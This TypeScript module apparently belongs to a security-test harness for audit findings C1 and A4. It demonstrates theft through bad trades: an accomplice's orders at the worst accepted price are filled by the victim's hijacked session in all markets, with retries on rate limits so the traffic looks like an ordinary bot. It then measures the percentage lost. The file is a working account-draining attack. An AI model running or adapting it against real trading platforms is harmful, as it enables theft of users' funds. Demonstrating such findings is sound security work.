/**
 * The theft by bad trades (findings C1 and A4) over HTTP: an accomplice offers as far from the index as the book takes it, the
 * thief's session takes it, in all markets at once and until nothing more is placed.
 */
import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';

import type { Reply } from '../client.ts';
import { type Browser, callFrom, type Victim } from './people.ts';
import { amountWorth, type AttackMarket, usdOf } from './prices.ts';
import type { Target } from './target.ts';

/** Worth of an order of the first round, in US dollars; what is refused is tried at half of it. */
const firstWorth = 4000;
const leastWorth = 10;
const timesMax = 40;
const limitedMs = 100;
const limitedMax = 200;

export interface Theft {
  readonly placed: number;
  /** The part of the worth that is gone without the fees, in percent. */
  readonly percent: number;
}

/** Robs somebody whose session may place orders; the accomplice has one in each market. */
export async function robByTrades(
  target: Target,
  { victim, thief }: { readonly victim: Victim; readonly thief: Browser },
  accomplices: ReadonlyMap<string, Browser>,
  markets: readonly AttackMarket[],
): Promise<Theft> {
  const before = await worthOf(target, victim);
  const placed = await Promise.all(
    markets.map(async (market) => {
      const accomplice = accomplices.get(market.symbol);
      return accomplice === undefined ? 0 : await robIn(target, thief, accomplice, market);
    }),
  );
  const after = await worthOf(target, victim);
  const lost = before.worth - after.worth - (after.fees - before.fees);
  return {
    placed: placed.reduce((sum, count) => sum + count, 0),
    percent: Number(((100 * lost) / before.worth).toFixed(3)),
  };
}

async function robIn(
  target: Target,
  thief: Browser,
  accomplice: Browser,
  market: AttackMarket,
): Promise<number> {
  let placed = 0;
  for (const side of ['buy', 'sell', 'buy', 'sell'] as const)
    for (let worth = firstWorth, times = 0; worth > leastWorth && times < timesMax; times += 1) {
      if (await trade(target, { thief, accomplice, market, side, worth })) placed += 1;
      else worth /= 2;
    }
  return placed;
}

type Trade = {
  readonly thief: Browser;
  readonly accomplice: Browser;
  readonly market: AttackMarket;
  readonly side: 'buy' | 'sell';
  readonly worth: number;
};

/** Offers at the worst price that the book takes, and lets the session of the thief take it. */
async function trade(target: Target, { thief, accomplice, market, side, worth }: Trade): Promise<boolean> {
  const { symbol } = market;
  const amount = amountWorth(market, worth);
  const terms = { symbol, type: 'limit', price: market.worst[side], amount };
  const opposite = side === 'buy' ? 'sell' : 'buy';
  const offered = await placing(target, accomplice, 'trade/submit', { ...terms, side: opposite });
  if (offered.code !== 200) return false;
  const taken = await placing(target, thief, 'trade/submit', { ...terms, side, timeInForce: 'ioc' });
  if (taken.data['status'] !== 'done')
    await placing(target, accomplice, 'trade/cancel', { orderId: offered.data['orderId'] });
  return taken.code === 200 && taken.data['status'] === 'done';
}

/** Orders are limited by the second: whoever is told to wait comes again, as anybody's robot would. */
async function placing(
  target: Target,
  browser: Browser,
  path: string,
  data: Readonly<Record<string, unknown>>,
): Promise<Reply> {
  for (let time = 0; ; time += 1) {
    const answer = await callFrom(target, browser, path, { ...data, requestId: randomUUID() });
    if (answer.code !== 429 || time >= limitedMax) return answer;
    await sleep(limitedMs);
  }
}

/** Worth of all that somebody has, open orders included, and of the fees of the orders. US dollars at the index. */
async function worthOf({ query }: Target, { id }: Victim): Promise<{ worth: number; fees: number }> {
  const held = await query(
    `select s.code as asset, sum(a.balance / power(10::numeric, s.scale)) as amount
     from ledger.account a join ledger.asset s on s.id = a.asset_id
     where a.owner_id = $1 and a.kind in ('available', 'order') group by s.code`,
    [id],
  );
  const paid = await query(
    `select b.asset, sum(b.fee_units / power(10::numeric, s.scale)) as amount
     from app.bill b join ledger.asset s on s.code = b.asset where b.user_id = $1 group by b.asset`,
    [id],
  );
  const sum = (rows: typeof held): number =>
    rows.reduce((total, { asset, amount }) => total + Number(amount) * usdOf(asset ?? ''), 0);
  return { worth: sum(held), fees: sum(paid) };
}
